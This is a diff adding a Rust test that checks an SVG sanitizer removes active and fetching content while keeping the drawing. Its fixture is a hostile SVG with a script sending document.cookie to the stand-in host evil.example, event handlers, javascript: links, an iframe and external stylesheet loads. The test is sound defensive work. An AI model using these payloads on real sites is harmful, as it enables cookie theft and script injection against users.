@@ -5,6 +5,7 @@
 
 use std::io::Read;
 use std::path::{Path, PathBuf};
+use std::process::Command;
 
 use mdcore::sanitize::{SanitizeError, SanitizeOptions, sanitize};
 
@@ -653,4 +654,65 @@ fn images_are_encoded_again_without_metadata_or_trailing_bytes() {
 
 fn contains(hay: &[u8], needle: &[u8]) -> bool {
     hay.windows(needle.len()).any(|w| w == needle)
+}
+
+/// SVG by hand (every way an SVG runs or fetches something), judged by
+/// Python's XML parser: well-formed, the drawing and its text kept, none of
+/// the active parts left.
+#[test]
+fn an_svg_keeps_its_drawing_and_loses_what_runs_or_fetches() {
+    let svg = br##"<?xml version="1.0" encoding="UTF-8"?>
+<?xml-stylesheet type="text/css" href="http://evil.example/s.css"?>
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" onload="alert(1)">
+  <defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient></defs>
+  <script type="text/javascript"><![CDATA[ fetch('http://evil.example/' + document.cookie) ]]></script>
+  <rect width="200" height="100" fill="url(#g)" onclick="alert(2)"/>
+  <a xlink:href="javascript:alert(3)"><text x="10" y="50">Quarterly figures, marker 4711</text></a>
+  <image href="http://evil.example/track.png" width="1" height="1"/>
+  <image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>
+  <foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example/"/></foreignObject>
+  <set attributeName="xlink:href" to="javascript:alert(4)"/>
+  <style>@import url(http://evil.example/x.css);</style>
+  <use xlink:href="#g"/>
+</svg>
+"##;
+    let s = sanitize(svg, "drawing.svg", &SanitizeOptions::new()).unwrap();
+    assert_eq!(s.converted_to, "svg");
+    let out = String::from_utf8(s.data.clone()).unwrap();
+    for gone in [
+        "evil.example",
+        "javascript",
+        "onload",
+        "onclick",
+        "<script",
+        "iframe",
+        "<set",
+    ] {
+        assert!(!out.contains(gone), "{gone} is still in:\n{out}");
+    }
+    let dir = tmp();
+    let path = write(dir.path(), "clean.svg", &s.data);
+    let check = Command::new("python3")
+        .args([
+            "-c",
+            "import sys, xml.etree.ElementTree as E\nroot = E.parse(sys.argv[1]).getroot()\nprint(root.tag)\nprint(''.join(root.itertext()))\nprint(len(root.findall('.//{http://www.w3.org/2000/svg}rect')), len(root.findall('.//{http://www.w3.org/2000/svg}image')))",
+            path.to_str().unwrap(),
+        ])
+        .output()
+        .unwrap();
+    let printed = String::from_utf8_lossy(&check.stdout);
+    assert!(
+        check.status.success(),
+        "{}",
+        String::from_utf8_lossy(&check.stderr)
+    );
+    assert!(
+        printed.starts_with("{http://www.w3.org/2000/svg}svg"),
+        "{printed}"
+    );
+    assert!(printed.contains("marker 4711"), "{printed}");
+    assert!(printed.trim_end().ends_with("1 2"), "{printed}");
+    // A twin with nothing active is reported clean.
+    let again = sanitize(&s.data, "drawing.svg", &SanitizeOptions::new()).unwrap();
+    assert!(again.details.is_empty(), "{:?}", again.details);
 }
